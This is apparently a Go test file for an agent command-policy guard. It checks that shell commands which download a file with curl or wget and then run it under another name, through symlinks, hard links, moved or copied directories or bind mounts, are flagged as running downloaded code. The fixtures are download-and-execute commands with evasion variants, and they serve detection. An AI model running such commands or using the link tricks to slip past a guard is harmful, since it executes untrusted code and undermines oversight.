package guard_test

import (
	"slices"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/agent-loop/shimgen/policy"
)

// What was downloaded under one name of a file and is run under another was still
// downloaded.
func TestDownloadsUnderAnotherName(t *testing.T) {
	const u = "https://e.com/i"
	p := builtin(t, policy.Cautious)
	for _, c := range []struct {
		reason, command string
		found           bool
	}{
		{"a link to the file", `ln -s x y; curl -o x ` + u + `; sh y`, true},
		{"the file that a link leads to", `ln -s x y; curl -o y ` + u + `; sh x`, true},
		{"a link to the directory itself", `ln -s . d; curl -o d/x ` + u + `; sh x`, true},
		{"the same the other way", `ln -s . d; curl -o x ` + u + `; sh d/x`, true},
		{"links to links", `ln -s y x; ln -s z y; curl -o x ` + u + `; sh z`, true},
		{"a link to a directory below", `ln -s a/b c; curl -o c/x ` + u + `; sh a/b/x`, true},
		{"a link and a way up from it", `ln -s ../q r; (cd r; curl -O ` + u + `); sh ../q/i`, true},
		{"a link made inside a directory", `cd r && ln -s /tmp/z q && curl -o q/i ` + u + ` && sh /tmp/z/i`, true},
		{"a relative link made from here", `ln -sr x d/y; curl -o x ` + u + `; sh d/y`, true},
		{"a link with the file's own name", `ln -s /tmp/x; curl -o /tmp/x ` + u + `; sh x`, true},
		{"a link after the download", `wget -O x ` + u + `; ln -s x y; bash ./y`, true},
		{"a hard link", `touch x; ln x y; curl -o x ` + u + `; sh y`, true},
		{"a hard link by link", `touch x; link x y; curl -o x ` + u + `; sh y`, true},
		{"a link that cp makes", `cp -s $PWD/x y; curl -o x ` + u + `; sh y`, true},
		{"a directory that is moved", `mkdir d; curl -o d/x ` + u + `; mv d e; sh e/x`, true},
		{"a directory that is copied", `mkdir d; curl -o d/x ` + u + `; cp -r d e; sh e/x`, true},
		{"a directory mounted elsewhere", `mount --bind d e; curl -o d/x ` + u + `; sh e/x`, true},
		{"a variable in the link", `D=.; ln -s $D d; curl -o d/x ` + u + `; sh x`, true},
		{"a link made in a shell of its own", `sh -c 'ln -s x y; curl -o x ` + u + `'; sh y`, true},
		{"the absolute path of the same file", `curl -o "$PWD/x" ` + u + `; sh x`, true},
		{"a link without a download", `ln -s x y; sh y`, false},
		{"another file", `ln -s x y; curl -o z ` + u + `; sh y`, false},
		{"a link to an installed tree", `ln -s /opt/app current; curl -o x ` + u + `; sh current/run.sh`, false},
	} {
		found := ids(check(p, c.command).Findings)
		assert.Equal(t, c.found, slices.Contains(found, "run.downloaded"), "%s: %s: %v", c.reason, c.command, found)
	}
}
